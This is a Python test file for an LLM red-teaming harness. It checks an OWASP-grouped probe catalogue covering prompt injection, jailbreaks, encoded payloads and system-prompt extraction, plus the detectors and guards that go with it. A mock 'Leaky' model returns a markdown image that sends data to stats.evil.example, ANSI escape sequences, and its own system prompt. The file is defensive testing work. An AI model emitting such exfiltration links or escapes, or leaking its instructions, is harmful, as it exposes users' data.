"""Red-team catalogue, detectors and runner: a leaky model is caught, grouped by OWASP id."""

from __future__ import annotations

import base64
import codecs
from pathlib import Path

import pytest

from llmloop.core.chat import EngineSpec, GenerationRequest, GenerationResult
from llmloop.engines.echo import EchoEngine
from llmloop.errors import ConfigError, ContextLengthExceededError, InvalidInputError
from llmloop.evaluators.redteam import load_catalogue, run_redteam
from llmloop.evaluators.redteam.catalogue import OWASP_LLM_2025, encode_payload, render_probe
from llmloop.evaluators.redteam.detectors import is_refusal
from llmloop.guards.defaults import default_guards


class Leaky(EchoEngine):
    """Does whatever it is told: leaks its system prompt, renders images, emits escapes."""

    async def chat(self, req: GenerationRequest) -> GenerationResult:
        assert req.messages is not None
        system, prompt = req.messages[0].content, req.messages[-1].content
        if "image" in prompt or "chart" in prompt:
            return GenerationResult(text="Done ![c](https://stats.evil.example/c.png?data=bal)")
        if "escape" in prompt or "OSC" in prompt:
            return GenerationResult(text="\x1b[2J\x1b[31mSYSTEM HACKED\x1b[0m")
        if "Jane" in prompt:
            return GenerationResult(text="Email jane.roe@example.com, phone +44 20 7946 0958.")
        if "configuration" in prompt or "Repeat" in prompt or "Spell" in prompt:
            return GenerationResult(text=system)
        return GenerationResult(text="Sure, here you go: step 1 ...")


class Refuser(EchoEngine):
    async def chat(self, req: GenerationRequest) -> GenerationResult:
        return GenerationResult(text="I'm sorry, but I can't help with that.")


class SmallContext(Refuser):
    """A 512-token model: a probe fits, a probe and 512 answer tokens do not."""

    async def chat(self, req: GenerationRequest) -> GenerationResult:
        if "max_tokens" in req.sampling.model_fields_set:
            raise ContextLengthExceededError("maximum context length is 512 tokens")
        return await super().chat(req)


def make(cls: type[EchoEngine]) -> EchoEngine:
    return cls(EngineSpec(kind="echo", model="m"))


def test_builtin_catalogue_is_valid_and_versioned() -> None:
    cat = load_catalogue()
    assert cat.version and len(cat.probes) >= 25
    assert {p.owasp for p in cat.probes} - {None} <= set(OWASP_LLM_2025)
    assert {"LLM01", "LLM02", "LLM05", "LLM07"} <= {p.owasp for p in cat.probes}
    categories = {p.category for p in cat.probes}
    for needed in ("prompt_injection", "indirect_injection", "jailbreak", "encoding",
                   "system_prompt_extraction", "markdown_exfiltration", "ansi_escape",
                   "harmful_request", "pii_elicitation"):  # fmt: skip
        assert needed in categories


def test_encodings_and_rendering() -> None:
    assert base64.b64decode(encode_payload("hi there", "base64")) == b"hi there"
    assert codecs.decode(encode_payload("hi there", "rot13"), "rot13") == "hi there"
    glyphs = encode_payload("ignore", "homoglyph")
    assert glyphs != "ignore" and len(glyphs) == len("ignore")
    cat = load_catalogue()
    probe = next(p for p in cat.probes if p.id == "inj-indirect-document")
    messages = render_probe(probe, cat.default_system, "llmloop-canary-1111222233334444")
    assert "llmloop-canary-1111222233334444" in messages[0].content
    assert [m.role for m in messages] == ["system", "user", "user"]
    assert "INDIRECT-5150" in messages[1].content


async def test_leaky_model_is_caught_per_owasp_id() -> None:
    report = await run_redteam(make(Leaky))
    failed = {r.probe_id for r in report.compromised}
    assert {"spl-repeat", "spl-debug", "spl-spell"} <= failed  # canary in the system prompt
    assert {"out-md-image", "out-ansi", "pii-context-dump", "harm-weapon"} <= failed
    assert report.by_owasp["LLM07"].attack_success_rate == 1.0
    assert report.by_owasp["none"].title.startswith("Content safety")
    assert report.model == "m"
    result = report.to_eval_result()
    assert result.aggregate["asr.LLM07"] == 1.0
    assert len(result.samples) == len(report.results)


async def test_refusing_model_resists_everything() -> None:
    report = await run_redteam(make(Refuser))
    assert report.attack_success_rate == 0.0


async def test_guards_stop_what_the_model_lets_through() -> None:
    probes = ["spl-repeat", "out-md-image", "out-ansi", "inj-direct-override"]
    bare = await run_redteam(make(Leaky), probe_ids=probes)
    assert bare.attack_success_rate > 0
    guarded = await run_redteam(make(Leaky), probe_ids=probes, guards=default_guards())
    assert [r.probe_id for r in guarded.compromised] == ["spl-repeat"]  # no canary configured
    blocked = {r.probe_id: r.blocked_by for r in guarded.results}
    assert blocked["out-md-image"] == "links.markdown_image"
    assert blocked["inj-direct-override"] == "injection.override"


@pytest.mark.parametrize(
    ("text", "refused"),
    [
        ("I'm sorry, but I can't help with that.", True),
        ("I cannot provide instructions for that.", True),
        ("Sure! Step one: gather materials.", False),
        ("You can't withdraw more than 500 EUR a day.", False),
    ],
)
def test_refusal_detection(text: str, refused: bool) -> None:
    assert is_refusal(text) is refused


async def test_bad_catalogues_and_selections(tmp_path: Path) -> None:
    bad = tmp_path / "c.yaml"
    bad.write_text(
        "name: x\nversion: '1'\ndefault_system: s\nprobes:\n"
        "  - {id: a, title: t, category: c, owasp: LLM99, severity: low,\n"
        "     prompt: p, detector: ansi}\n"
    )
    with pytest.raises(ConfigError, match="LLM99"):
        load_catalogue(bad)
    with pytest.raises(ConfigError, match="cannot read"):
        load_catalogue(tmp_path / "missing.yaml")
    with pytest.raises(InvalidInputError, match="nope"):
        await run_redteam(make(Refuser), probe_ids=["nope"])
    # A misspelt category ran nothing and reported a 0% attack success rate.
    with pytest.raises(InvalidInputError, match=r"category jailbrake \(known: .*jailbreak"):
        await run_redteam(make(Refuser), categories=["jailbreak", "jailbrake"])


async def test_a_model_with_a_small_context_answers_every_probe() -> None:
    """512 answer tokens beside a probe overflow a 512-token model: each probe is asked again
    without max_tokens (all the room left), instead of every probe failing."""
    report = await run_redteam(make(SmallContext))
    assert report.errors == 0 and report.attack_success_rate == 0.0
